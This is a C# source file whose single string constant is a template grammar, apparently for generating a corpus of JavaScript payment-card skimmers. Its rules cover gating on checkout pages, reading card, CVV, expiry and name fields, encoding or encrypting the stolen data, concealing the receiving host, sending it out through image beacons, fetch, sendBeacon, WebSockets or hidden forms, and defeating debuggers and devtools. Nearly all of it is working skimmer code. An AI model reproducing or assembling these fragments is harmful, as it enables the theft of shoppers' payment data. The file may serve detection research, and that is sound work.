namespace Weir.Scripts.Corpus.Rules;

/// <summary>The parts of skimmers: gates, readers, ways to hide and to send, hooks, and what keeps an analyst away.</summary>
internal static class SkimmerParts
{
    public const string Text = """"
        ¶ ---- where it is awake ----
        §gate
        5× /«checkWord»|«checkWord»/«i¦gi¦».test(«here»)
        /«checkWord»/.test(«here»)
        4× «here».indexOf('«checkWord»')«>-1¦!=-1¦!==-1¦>=0»
        2× location.pathname.includes('«checkWord»')
        new RegExp('«checkWord»|«checkWord»|«checkWord»','gi').test(window.location)
        new RegExp(«hiddenText‹«checkWord»|«checkWord»›»).test(«here»)
        «here».match(/«checkWord»|«checkWord»/gi)
        location.href.search(«hiddenText‹«checkWord»›»)«!=¦>»-1
        location.hash.indexOf('«checkWord»')>-1
        location.hash==='#«checkWord»'
        document.querySelector('«paySel»')
        document.querySelector('[name="«cardField»"]')!==null
        document.getElementById('«cardField»')!=null
        document.referrer.indexOf('«checkWord»')>-1&&document.cookie.indexOf('«!word»')===-1
        !localStorage.getItem('«!word»')&&/«checkWord»/.test(«here»)
        ['«checkWord»','«checkWord»','«checkWord»'].some(function(°w){return location.href.toLowerCase().indexOf(°w)>=0;})
        document.title.toLowerCase().indexOf('«checkWord»')>-1
        atob('«!b64‹«checkWord»›»')&&location.href.indexOf(atob('«!b64‹«checkWord»›»'))>0
        window.outerWidth-window.innerWidth<«#120-220»&&/«checkWord»/.test(location.href)
        «now»>1«#500000000-799999999»000&&location.href.indexOf('«checkWord»')>0
        typeof jQuery!=='undefined'&&jQuery('#«cardField»').length>0
        document.body.innerHTML.indexOf('«cardField»')>0
        !/«!word»|admin|backend/i.test(location.href)&&navigator.userAgent.indexOf('«bot¦Headless¦Linux»')<0

        §condition
        4× if(«gate»){¹}
        2× ¹
        («gate»)&&(function(){¹})();
        setTimeout(function(){if(«gate»){¹}},«ms»);
        if(«gate»&&!window.«!word»){window.«!word»=true;¹}
        switch(true){case !!(«gate»):{¹}break;}
        var °u=«here»;if(/«checkWord»/.test(°u)){¹}
        «devtools‹¹›»

        §devtools
        if(!(window.Firebug&&window.Firebug.chrome&&window.Firebug.chrome.isInitialized)){¹}
        var °w=window.outerWidth-window.innerWidth>160,°h=window.outerHeight-window.innerHeight>160;if(!°w&&!°h){¹}
        var °o=false,°i=new Image();Object.defineProperty(°i,'id',{get:function(){°o=true;}});console.log(°i);if(!°o){¹}

        §antidebug
        setInterval(function(){debugger;},«ms»);
        (function(){var °t=«now»;debugger;if(«now»-°t>«#50-200»){while(true){}}})();
        console.log=console.warn=console.error=function(){};
        document.addEventListener('contextmenu',function(°e){°e.preventDefault();});
        document.currentScript&&document.currentScript.parentNode.removeChild(document.currentScript);
        var °s=document.currentScript;if(°s){°s.remove();}
        [].forEach.call(document.querySelectorAll('script[src*="«!word»"]'),function(°s){°s.remove();});

        §ifCard
        3× ¹
        if(/\d{«#12-15»,}/.test(@collect())){¹}
        var °n=document.getElementById('«cardField»');if(°n&&°n.value.length>«#12-15»){¹}
        if(document.querySelector('[name*="«cvvField»"]')){¹}
        if(!document.cookie.match(/«!word»=1/)){¹document.cookie='«!word»=1';}

        §ifText
        2× ²
        if(JSON.stringify(¹).length>«#10-90»){²}
        if(¹&&!window.«!word»){window.«!word»=1;²}

        ¶ ---- read the fields; ¹ is a new name for what was read ----
        §readInto
        5× var ¹={};«fieldsInto‹¹›»«extras‹¹›»
        3× «textInto‹¹›»
        2× var ¹=[];«listInto‹¹›»
        «namedInto‹¹›»«extras‹¹›»

        §fieldsInto
        3× var °l=document.querySelectorAll('«anySel»');for(var °i=0;°i<°l.length;°i++){if(«°l[°i].value¦°l[°i].value.length>0¦°l[°i].value&&°l[°i].name¦°l[°i].value!=''»){¹[«°l[°i].name¦°l[°i].id¦°l[°i].name||°l[°i].id¦°l[°i].id||°l[°i].name||°i¦°l[°i].getAttribute('name')»]=°l[°i].value;}}
        2× document.querySelectorAll('«anySel»').forEach(function(°e){if(°e.value){¹[«°e.name¦°e.id¦°e.name||°e.id»]=°e.value;}});
        [].forEach.call(document.getElementsByTagName('«input¦select¦*»'),function(°e){¹[°e.name||°e.id]=°e.value;});
        Array.from(document.forms).forEach(function(°f){Array.from(°f.elements).forEach(function(°e){if(°e.name){¹[°e.name]=°e.value;}});});
        var °f=document.forms;for(var °i=0;°i<°f.length;°i++){for(var °j=0;°j<°f[°i].elements.length;°j++){var °e=°f[°i].elements[°j];¹[°e.name]=°e.value;}}
        [«fieldList»].forEach(function(°n){var °e=«byName‹°n›»;if(°e){¹[°n]=°e.value;}});
        var °n=[«fieldList»];for(var °i=0;°i<°n.length;°i++){var °e=«byName‹°n[°i]›»;¹[°n[°i]]=°e?°e.value:'';}
        new FormData(document.querySelector('«form¦«paySel»»')).forEach(function(°v,°k){¹[°k]=°v;});
        jQuery('«anySel»').each(function(){¹[jQuery(this).attr('«name¦id»')]=jQuery(this).val();});
        jQuery.each(jQuery('«form¦«paySel»»').serializeArray(),function(°i,°e){¹[°e.name]=°e.value;});
        var °w=document.createTreeWalker(document.body,NodeFilter.SHOW_ELEMENT),°e;while(°e=°w.nextNode()){if(/INPUT|SELECT/.test(°e.tagName)&&°e.value){¹[°e.name]=°e.value;}}
        for(var °k in document.forms[0].elements){var °e=document.forms[0].elements[°k];if(°e&&°e.value){¹[°k]=°e.value;}}
        var °l=document.querySelectorAll('input');Object.keys(°l).map(function(°k){if(°l[°k].type!='hidden'){¹[°l[°k].id]=°l[°k].value;}});

        §namedInto
        var ¹={«number¦cc¦card¦n»:«valueOf‹«cardField»›»,«cvv¦cvc¦c»:«valueOf‹«cvvField»›»,«exp¦e¦date»:«valueOf‹«expField»›»+'/'+«valueOf‹«expField»›»,«name¦owner¦u»:«valueOf‹«personField»›»+' '+«valueOf‹«personField»›»};
        var ¹={};if(document.getElementById('«cardField»')){¹.«card¦n¦num»=«valueOf‹«cardField»›»;¹.«cvv¦c»=«valueOf‹«cvvField»›»;¹.«m¦month»=«valueOf‹«expField»›»;}¹.«name¦fn»=«valueOf‹«personField»›»;¹.«zip¦pc»=«valueOf‹«personField»›»;
        var ¹=Object.assign({},{a:«valueOf‹«cardField»›»,b:«valueOf‹«cvvField»›»,c:«valueOf‹«expField»›»,d:«valueOf‹«personField»›»});

        §valueOf
        document.getElementById('¹').value
        document.querySelector('[name="¹"]').value
        (document.getElementById('¹')||{}).value
        (document.querySelector('#¹')||{value:''}).value
        document.getElementsByName('¹')[0].value
        jQuery('#¹').val()
        $('[name="¹"]').val()
        document.querySelector('input[id*="¹"]').value

        §byName
        document.getElementById(¹)
        document.querySelector('[name="'+¹+'"]')
        document.getElementsByName(¹)[0]
        document.querySelector('#'+¹)
        (document.getElementById(¹)||document.getElementsByName(¹)[0])

        §textInto
        2× var ¹='';var °l=document.querySelectorAll('«anySel»');for(var °i=0;°i<°l.length;°i++){if(°l[°i].value){¹+=«°l[°i].name¦°l[°i].id¦(°l[°i].name||°l[°i].id)»+'«=¦:¦|»'+«°l[°i].value¦encodeURIComponent(°l[°i].value)»+'«&¦;¦\n¦|»';}}
        var ¹=jQuery('«form¦«paySel»»').serialize();
        var ¹=new URLSearchParams(new FormData(document.querySelector('«form¦«paySel»»'))).toString();
        var ¹=[].map.call(document.querySelectorAll('«anySel»'),function(°e){return °e.name+'='+°e.value;}).join('&');
        var ¹=Array.prototype.slice.call(document.querySelectorAll('«anySel»')).filter(function(°e){return °e.value;}).map(function(°e){return (°e.id||°e.name)+'='+encodeURIComponent(°e.value);}).join('«&¦|»');
        var ¹=«valueOf‹«cardField»›»+'|'+«valueOf‹«expField»›»+'|'+«valueOf‹«cvvField»›»+'|'+«valueOf‹«personField»›»;
        var ¹='';jQuery('«anySel»').each(function(){if(jQuery(this).val()){¹+='&'+this.name+'='+jQuery(this).val();}});
        var ¹='«!letters‹1›»='+«valueOf‹«cardField»›»+'&«!letters‹2›»='+«valueOf‹«cvvField»›»+'&«!letters‹1›»='+«valueOf‹«expField»›»;
        var ¹=Array.from(document.querySelectorAll('«anySel»')).reduce(function(°a,°e){return °e.value?°a+°e.name+'='+°e.value+'&':°a;},'');

        §listInto
        document.querySelectorAll('«anySel»').forEach(function(°e){¹.push(«[°e.name,°e.value]¦{n:°e.name,v:°e.value}¦°e.name+'='+°e.value¦{id:°e.id,type:°e.type,value:°e.value}»);});
        var °e=document.getElementsByTagName('input');for(var °i=0;°i<°e.length;°i++){¹.push(°e[°i].value);}
        ['input','select','textarea'].forEach(function(°t){[].forEach.call(document.getElementsByTagName(°t),function(°e){if(°e.value){¹.push(°e.id+':'+°e.value);}});});

        §extras
        5×
        2× ¹.«host¦domain¦site¦h¦d»=«hostHere»;
        ¹['«url¦page¦u»']=«here»;¹['«ua¦agent»']=navigator.userAgent;
        ¹.«ref¦r»=document.referrer;¹.«cookie¦ck»=document.cookie;
        ¹.«id¦uid¦sid»=«rand»;
        ¹.«time¦t»=«now»;¹.«lang¦l»=navigator.language;

        ¶ ---- make it unreadable; ¹ an expression of an object, list or text ----
        §hide
        5× btoa(JSON.stringify(¹))
        3× JSON.stringify(¹)
        3× encodeURIComponent(JSON.stringify(¹))
        2× encodeURIComponent(btoa(JSON.stringify(¹)))
        2× btoa(encodeURIComponent(JSON.stringify(¹)))
        btoa(unescape(encodeURIComponent(JSON.stringify(¹))))
        6× «hideText‹JSON.stringify(¹)›»
        window.btoa(JSON.stringify(¹)).split('').reverse().join('')
        Object.keys(¹).map(function(°k){return °k+'='+encodeURIComponent(¹[°k]);}).join('&')
        jQuery.param(¹)

        §hideText
        3× btoa(¹)
        2× encodeURIComponent(¹)
        escape(¹)
        btoa(encodeURIComponent(¹))
        ¹.split('').reverse().join('')
        ¹.split('').map(function(°c){return String.fromCharCode(°c.charCodeAt(0)«+¦^»«#1-30»);}).join('')
        ¹.split('').map(function(°c){return °c.charCodeAt(0).toString(16);}).join('«¦-¦,»')
        ¹.replace(/./g,function(°c){return ('00'+°c.charCodeAt(0)).slice(-3);})
        (function(°s){var °k='«!id‹«#4-24»›»',°o='';for(var °i=0;°i<°s.length;°i++){°o+=String.fromCharCode(°s.charCodeAt(°i)^°k.charCodeAt(°i%°k.length));}return btoa(°o);})(¹)
        (function(°s){var °o='';for(var °i=0;°i<°s.length;°i++){°o+=«(°s.charCodeAt(°i)^«#1-255»).toString(16)+'«.¦ ¦»'¦String.fromCharCode(°s.charCodeAt(°i)+«#1-9»)¦('0'+°s.charCodeAt(°i).toString(16)).slice(-2)»;}return °o;})(¹)
        (function(°s){var °a='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789',°o='';for(var °i=0;°i<°s.length;°i++){var °p=°a.indexOf(°s[°i]);°o+=°p<0?°s[°i]:°a[(°p+«#1-61»)%°a.length];}return °o;})(¹)
        CryptoJS.AES.encrypt(¹,'«!id‹«#8-32»›»').toString()
        sjcl.encrypt('«!id‹«#8-16»›»',¹)
        (function(°s){var °r=new JSEncrypt();°r.setPublicKey('«!blob‹«#120-220»›»');var °o=[];for(var °i=0;°i<°s.length;°i+=«#80-117»){°o.push(°r.encrypt(°s.substr(°i,«#80-117»)));}return °o.join('|');})(¹)
        '«!id‹«#3-8»›»'+btoa(¹)
        btoa(¹).replace(/=/g,'«_¦»').replace(/\+/g,'-')
        Array.from(new TextEncoder().encode(¹)).map(function(°b){return °b.toString(16).padStart(2,'0');}).join('')

        ¶ ---- the host, plain or hidden ----
        §target
        5× '«url»'
        4× «hiddenText‹«url»›»
        «hiddenText‹https:›»+'//'+«hiddenText‹«!host»›»+'/«path»'
        '//'+'«!host»'+'/«path»'
        location.protocol+'//«!host»/«path»'
        ['https:','','«!host»','«path»'].join('/')

        §hiddenText
        4× atob('«!b64‹¹›»')
        2× «!split‹¹›»
        2× '«!xesc‹¹›»'
        2× String.fromCharCode(«!codes‹¹›»)
        «reversed‹¹›»
        decodeURIComponent('«!pct‹¹›»')
        unescape('«!pct‹¹›»')
        2× [«!codes‹¹›‹«shiftOnce»›»].map(function(°c){return String.fromCharCode(°c-«shiftOnce»);}).join('')
        '«!hexof‹¹›»'.replace(/../g,function(°h){return String.fromCharCode(parseInt(°h,16));})
        '«!hexof‹¹›»'.match(/.{2}/g).map(function(°h){return String.fromCharCode('0x'+°h);}).join('')
        window['at'+'ob']('«!b64‹¹›»')
        (function(°s){var °o='';for(var °i=0;°i<°s.length;°i++){°o+=String.fromCharCode(°s.charCodeAt(°i)-4);}return °o;})('«!shift‹¹›‹4›»')
        (function(°s,°k){return °s.match(/../g).map(function(°h,°i){return String.fromCharCode(parseInt(°h,16)^°k.charCodeAt(°i%°k.length));}).join('');})('«!xor‹¹›‹weir›»','weir')

        §shiftOnce
        5

        §reversed
        '«!rev‹¹›»'.split('').reverse().join('')
        [...'«!rev‹¹›»'].reverse().join('')

        ¶ ---- send: ¹ what, ² where to ----
        §send
        4× new Image().src=²+'?«!letters‹«#1-5»›»='+¹;
        2× var °i=new Image();°i.src=²+'?'+¹;
        var °i=document.createElement('img');°i.src=²+'?«!word»='+¹+'&«!letters‹1›»='+«rand»;°i.width=°i.height=«0¦1»;document.body.appendChild(°i);
        3× var °x=new XMLHttpRequest();°x.open('POST',²,«true¦false¦!0»);°x.setRequestHeader('Content-«type¦Type»','application/«x-www-form-urlencoded¦json»');°x.send(«¹¦'«!word»='+¹»);
        var °x=window.XMLHttpRequest?new XMLHttpRequest():new ActiveXObject('Microsoft.XMLHTTP');°x.open('GET',²+'?«!letters‹1›»='+¹,true);°x.send(null);
        3× fetch(²,{method:'POST',«mode:'no-cors',¦credentials:'omit',¦»body:¹});
        fetch(²+'?«!letters‹2›»='+encodeURIComponent(¹),{«mode:'no-cors'¦method:'GET'»})«.catch(function(){})¦»;
        fetch(²,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({«!word»:¹})}).then(function(){});
        2× navigator.sendBeacon(²,¹);
        navigator.sendBeacon&&navigator.sendBeacon(²,new Blob([¹],{type:'text/plain'}));
        var °w=new WebSocket(String(²).replace(/^http/,'ws'));°w.onopen=function(){°w.send(¹);};
        var °f=document.createElement('form');°f.method='POST';°f.action=²;°f.target='«!word»';°f.style.display='none';var °h=document.createElement('input');°h.name='«!word»';°h.value=¹;°f.appendChild(°h);var °r=document.createElement('iframe');°r.name='«!word»';°r.style.display='none';document.body.appendChild(°r);document.body.appendChild(°f);°f.submit();
        var °s=document.createElement('script');°s.src=²+'?«!letters‹1›»='+¹;document.head.appendChild(°s);
        var °l=document.createElement('link');°l.rel='«prefetch¦stylesheet¦preload¦dns-prefetch»';°l.href=²+'?'+¹;document.head.appendChild(°l);
        jQuery.ajax({url:²,type:'POST',data:{«!word»:¹},«dataType:'json',¦»crossDomain:true});
        jQuery.post(²,{«!letters‹«#1-4»›»:¹});
        $.post(²,¹);
        $.getJSON(²+'?callback=?',{«!word»:¹},function(){});
        var °r=document.createElement('iframe');°r.style.display='none';°r.src=²+'#'+¹;document.body.appendChild(°r);
        var °p=new FormData();°p.append('«!word»',¹);fetch(²,{method:'POST',body:°p});
        document.body.style.backgroundImage='url('+²+'?'+¹+')';
        (new Image).src=[²,¹].join('«?¦/¦?d=»');
        var °a=new Audio();°a.src=²+'?'+¹;
        axios.post(²,{«!word»:¹});

        ¶ ---- hooks: ¹ a function ----
        §hook
        6× «listen‹¹›»
        3× «start‹¹›»
        2× setInterval(¹,«ms»);
        setTimeout(function °t(){(¹)();setTimeout(°t,«ms»);},«ms»);
        «start‹function(){«listen‹¹›»}›»
        """";
}
